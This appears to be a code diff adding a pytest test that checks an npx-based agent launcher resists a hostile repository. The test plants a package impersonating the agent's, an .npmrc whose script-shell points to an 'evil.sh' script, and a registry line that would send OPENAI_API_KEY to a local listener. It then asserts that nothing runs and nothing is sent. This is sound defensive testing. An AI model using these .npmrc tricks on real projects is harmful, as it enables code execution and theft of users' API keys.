@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import asyncio
 import os
+import shutil
 from pathlib import Path
 
 import pytest
@@ -106,3 +108,40 @@ async def test_an_old_node_is_said(tmp_path: Path, version: str, old: bool) -> N
     said = await npx.old_node({"PATH": f"{tmp_path}:/bin"})
     assert bool(said) is old
     assert not old or "Node 20.20.2 is old" in said
+
+
+@pytest.mark.skipif(shutil.which("npx") is None, reason="needs npx")
+async def test_a_repository_has_npx_run_and_send_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Its package would be taken for the agent's, its script-shell be started, its registry get the key."""
+    place = package(tmp_path, "@agentclientprotocol/x", '"main.js"').parent
+    (place / "package.json").write_text(
+        '{"name": "@agentclientprotocol/x", "version": "1.0.0", "bin": "main.js"}'
+    )
+    (tmp_path / "package.json").write_text('{"dependencies": {"@agentclientprotocol/x": "1.0.0"}}')
+    evil = tmp_path / "evil.sh"
+    evil.write_text(f"#!/bin/sh\ntouch {tmp_path}/owned\n")
+    evil.chmod(0o755)
+    heard = list[bytes]()
+
+    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        heard.append(await reader.readuntil(b"\r\n\r\n"))
+        writer.write(b"HTTP/1.1 404 X\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
+        writer.close()
+
+    async with await asyncio.start_server(listen, "127.0.0.1", 0) as served:
+        port = served.sockets[0].getsockname()[1]
+        address = f"//127.0.0.1:{port}/"
+        (tmp_path / ".npmrc").write_text(
+            f"script-shell={evil}\nregistry=http:{address}\n{address}:_authToken=${{OPENAI_API_KEY}}\n"
+        )
+        (tmp_path / "home").mkdir()
+        (tmp_path / "home/.npmrc").write_text("registry=http://127.0.0.1:1/\nfetch-retries=0\n")
+        environ = {"PATH": os.environ["PATH"], "OPENAI_API_KEY": "secret", "HOME": str(tmp_path / "home")}
+        monkeypatch.chdir(tmp_path)
+        for offline in (True, False):
+            with pytest.raises(AgentFailed, match="npx cannot get"):
+                await npx.program(["npx", "-y", "@agentclientprotocol/x"], environ, offline=offline)
+    assert not (tmp_path / "owned").exists()
+    assert heard == []
